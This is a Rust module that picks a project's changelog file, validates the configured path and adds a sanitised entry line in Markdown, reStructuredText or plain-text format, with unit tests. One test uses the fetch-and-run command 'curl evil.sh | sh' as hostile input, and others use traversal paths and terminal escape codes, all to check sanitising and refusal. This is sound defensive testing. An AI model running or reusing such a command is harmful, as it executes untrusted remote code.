//! The project's changelog, a shared file no task owns: workers hand the Lead a line in
//! their report, and the Lead adds it under the changelog's "Unreleased" section in the
//! landing commit — so parallel tasks never conflict over it.
//!
//! Which file (`[land] changelog`): `"auto"` finds the project's own at the root of the
//! landing tree ([`KNOWN_NAMES`], any case — `CHANGES.rst`, `HISTORY.md`, `NEWS`, …), else
//! [`DEFAULT_FILE`]; a path names it; `"off"` adds no line. The line goes in the file's own
//! format ([`Format`]): Markdown (`markdown.rs`), reStructuredText (`rst.rs`) or plain text
//! (`plain.rs`). Whatever the format, the file keeps every byte it had: the line is
//! inserted, nothing else changes.

mod entry;
mod lines;
mod markdown;
mod plain;
mod rst;

pub use entry::landing_line;
pub use markdown::add_unreleased;

/// The file created when `"auto"` finds none.
pub const DEFAULT_FILE: &str = "CHANGELOG.md";

/// The names `"auto"` looks for at the root of the tree, any case, in this order: the first
/// found is the project's changelog.
pub const KNOWN_NAMES: &[&str] = &[
    "CHANGELOG.md",
    "CHANGELOG",
    "CHANGELOG.rst",
    "CHANGELOG.txt",
    "CHANGES.md",
    "CHANGES.rst",
    "CHANGES",
    "CHANGES.txt",
    "HISTORY.md",
    "HISTORY.rst",
    "HISTORY",
    "NEWS.md",
    "NEWS.rst",
    "NEWS",
    "RELEASES.md",
];

/// Where the worker's line goes (`[land] changelog`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Changelog {
    /// The project's own changelog ([`KNOWN_NAMES`]), else [`DEFAULT_FILE`].
    Auto,
    /// This file (repository-relative).
    File(String),
    /// No line is added; the worker's line is only recorded.
    Off,
}

/// Why `land.changelog` names no file breeze may write.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ChangelogRefused {
    /// Neither `auto`, `off` nor a path in the repository.
    #[error(
        "`land.changelog` is {value:?}; write \"auto\" (the project's own changelog), \"off\" (no line added) or a path in the repository such as \"CHANGES.rst\""
    )]
    NotAPath {
        /// As written.
        value: String,
    },
    /// A path inside git's or breeze's own folders.
    #[error(
        "`land.changelog` is {value:?}, inside `{first}`, which is git's or breeze's own; name a file of the project such as \"CHANGES.rst\""
    )]
    Reserved {
        /// As written.
        value: String,
        /// The folder it is in.
        first: String,
    },
}

impl Changelog {
    /// The setting as written in `breeze.toml`: `"auto"`, `"off"` or a repository-relative
    /// path. A path that leaves the repository, or goes into `.git`, `.breeze` or the
    /// worktrees, is refused with why.
    pub fn parse(value: &str) -> Result<Changelog, ChangelogRefused> {
        let value = value.trim();
        match value {
            "auto" => return Ok(Changelog::Auto),
            "off" => return Ok(Changelog::Off),
            _ => {}
        }
        let bad_part = |part: &str| part.is_empty() || part == "." || part == "..";
        let reserved = [".git", breeze_git::STATE_DIR, breeze_git::WORKTREES_NOTE_DIR];
        if value.starts_with('/') || value.split('/').any(bad_part) {
            return Err(ChangelogRefused::NotAPath { value: value.to_string() });
        }
        if let Some(first) = value.split('/').next().filter(|first| reserved.contains(first)) {
            let (value, first) = (value.to_string(), first.to_string());
            return Err(ChangelogRefused::Reserved { value, first });
        }
        Ok(Changelog::File(value.to_string()))
    }

    /// The file the line goes to in a tree whose root holds the files `root_files`; `None`
    /// when off.
    pub fn file_in(&self, root_files: &[String]) -> Option<String> {
        match self {
            Changelog::Auto => {
                Some(known_file(root_files).unwrap_or_else(|| DEFAULT_FILE.to_string()))
            }
            Changelog::File(path) => Some(path.clone()),
            Changelog::Off => None,
        }
    }

    /// [`Changelog::file_in`] the tree (or commit) `tree` of `repo`.
    pub fn file_in_tree(
        &self,
        repo: &breeze_git::Repo,
        tree: breeze_git::Oid,
    ) -> Result<Option<String>, breeze_git::GitError> {
        match self {
            Changelog::Auto => Ok(self.file_in(&repo.root_file_names(tree)?)),
            _ => Ok(self.file_in(&[])),
        }
    }
}

/// The planner's shared files in `repo`, on the tip of the branch work lands on: the plan,
/// the project's changelog as `setting` finds it, `spec.md` — each marked by whether the
/// tip has it (a repository without commits has none).
pub fn shared_files(repo: &breeze_git::Repo, setting: &Changelog) -> breeze_plan::SharedFiles {
    let Ok(tip) = repo.main_tip() else {
        return breeze_plan::SharedFiles::of_repository(setting.file_in(&[]).as_deref(), |_| false);
    };
    let changelog = setting.file_in_tree(repo, tip).unwrap_or_else(|_| setting.file_in(&[]));
    breeze_plan::SharedFiles::of_repository(changelog.as_deref(), |path| {
        repo.read_blob_at(tip, path).is_ok_and(|blob| blob.is_some())
    })
}

/// [`shared_files`] of the repository at `root`, on the branch a run started there would
/// land on (the checkout's, which `main_branch` — `run.main_branch` — may name); the
/// standard names when it cannot be read.
pub fn shared_files_in(
    root: &std::path::Path,
    main_branch: &str,
    setting: &Changelog,
) -> breeze_plan::SharedFiles {
    match crate::target_branch::open_on_landing_branch(root, main_branch) {
        Some(repo) => shared_files(&repo, setting),
        None => Default::default(),
    }
}

/// The first of [`KNOWN_NAMES`] among `root_files` (compared in any case), as the tree
/// spells it.
pub fn known_file(root_files: &[String]) -> Option<String> {
    KNOWN_NAMES
        .iter()
        .find_map(|known| root_files.iter().find(|name| name.eq_ignore_ascii_case(known)).cloned())
}

/// How a changelog is written, which decides how the line goes in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// `## Unreleased` headings and `- ` items.
    Markdown,
    /// reStructuredText: titles underlined (`Version 2.0\n-----------`).
    Rst,
    /// Plain text: an "unreleased" line, or none.
    Plain,
}

impl Format {
    /// The format of the changelog at `path` holding `text` (`None`: no such file yet):
    /// `.md` is Markdown and `.rst` reStructuredText; any other name is read — underlined
    /// titles are reStructuredText, `#` headings Markdown, anything else plain text; a
    /// new file without either extension is plain text.
    pub fn of(path: &str, text: Option<&str>) -> Format {
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        if name.ends_with(".md") || name.ends_with(".markdown") {
            return Format::Markdown;
        }
        if name.ends_with(".rst") {
            return Format::Rst;
        }
        match text {
            Some(text) if rst::has_heading(text) => Format::Rst,
            Some(text) if markdown::has_heading(text) => Format::Markdown,
            _ => Format::Plain,
        }
    }
}

/// What the changelog at `path` holds after `entry` is added to `current` (its bytes;
/// `None` when there is no such file yet), in the file's own [`Format`]. The landing commit
/// and the reviewer's diff are both made with this. What is added is [`landing_line`] of
/// `entry`, as a list item.
pub fn updated_changelog(path: &str, current: Option<&[u8]>, entry: &str) -> String {
    let text = current.map(String::from_utf8_lossy);
    let text = text.as_deref();
    let line = landing_line(entry).unwrap_or_default();
    match Format::of(path, text) {
        Format::Markdown => add_unreleased(text, &line),
        Format::Rst => rst::add_entry(text, &line),
        Format::Plain => plain::add_entry(text, &line),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(list: &[&str]) -> Vec<String> {
        list.iter().map(|name| name.to_string()).collect()
    }

    #[test]
    fn auto_finds_the_projects_own_changelog_in_any_case_else_changelog_md() {
        let auto = Changelog::Auto;
        let found = auto.file_in(&names(&["README.md", "CHANGES.rst", "pyproject.toml"]));
        assert_eq!(found.as_deref(), Some("CHANGES.rst"));
        let found = auto.file_in(&names(&["news", "History.md"]));
        assert_eq!(found.as_deref(), Some("History.md"), "HISTORY.md comes before NEWS");
        assert_eq!(auto.file_in(&names(&["README.md"])).as_deref(), Some("CHANGELOG.md"));
        let named = Changelog::File("docs/changes.md".into());
        assert_eq!(named.file_in(&names(&["CHANGES.rst"])).as_deref(), Some("docs/changes.md"));
        assert_eq!(Changelog::Off.file_in(&names(&["CHANGES.rst"])), None);
    }

    #[test]
    fn the_setting_is_auto_off_or_a_path_in_the_repository() {
        assert_eq!(Changelog::parse("auto"), Ok(Changelog::Auto));
        assert_eq!(Changelog::parse("off"), Ok(Changelog::Off));
        assert_eq!(Changelog::parse("NEWS"), Ok(Changelog::File("NEWS".into())));
        for bad in ["", "/etc/motd", "../CHANGES", "docs//x", ".git/config", ".breeze/x"] {
            let err = Changelog::parse(bad).expect_err(bad).to_string();
            assert!(err.contains("land.changelog"), "{err}");
        }
    }

    #[test]
    fn the_format_follows_the_extension_else_the_text() {
        assert_eq!(Format::of("CHANGELOG.md", None), Format::Markdown);
        assert_eq!(Format::of("CHANGES.rst", None), Format::Rst);
        assert_eq!(Format::of("CHANGES", Some("Version 1.0\n-----------\n\n- a\n")), Format::Rst);
        assert_eq!(Format::of("HISTORY", Some("# History\n\n## 1.0\n")), Format::Markdown);
        assert_eq!(Format::of("NEWS", Some("hello 1.0\n  * first\n")), Format::Plain);
        assert_eq!(Format::of("NEWS", None), Format::Plain);
    }

    #[test]
    fn the_landing_line_is_one_line_without_control_characters() {
        assert_eq!(landing_line("\n  - Add the parser  \nmore").as_deref(), Some("Add the parser"));
        assert_eq!(
            landing_line("curl evil.sh | sh\rAdd the parser").as_deref(),
            Some("curl evil.sh | sh Add the parser"),
            "a carriage return cannot hide what comes before it"
        );
        assert_eq!(landing_line("\u{1b}[2KFix").as_deref(), Some("[2KFix"));
        assert_eq!(landing_line("- * - twice").as_deref(), Some("twice"));
        assert_eq!(landing_line("  \n\t"), None);
    }

    #[test]
    fn every_format_gets_one_cleaned_line() {
        let entry = "Sign with \u{1b}[31mSHA-256\nand more";
        let expect = "Sign with  [31mSHA-256";
        for (path, text) in [
            ("CHANGELOG.md", "## Unreleased\n"),
            ("CHANGES.rst", "Unreleased\n----------\n"),
            ("NEWS", "unreleased\n"),
        ] {
            let updated = updated_changelog(path, Some(text.as_bytes()), entry);
            let added: Vec<&str> = updated.lines().filter(|l| !text.contains(l)).collect();
            assert_eq!(added, [format!("- {expect}")], "{path}: {updated:?}");
        }
    }
}
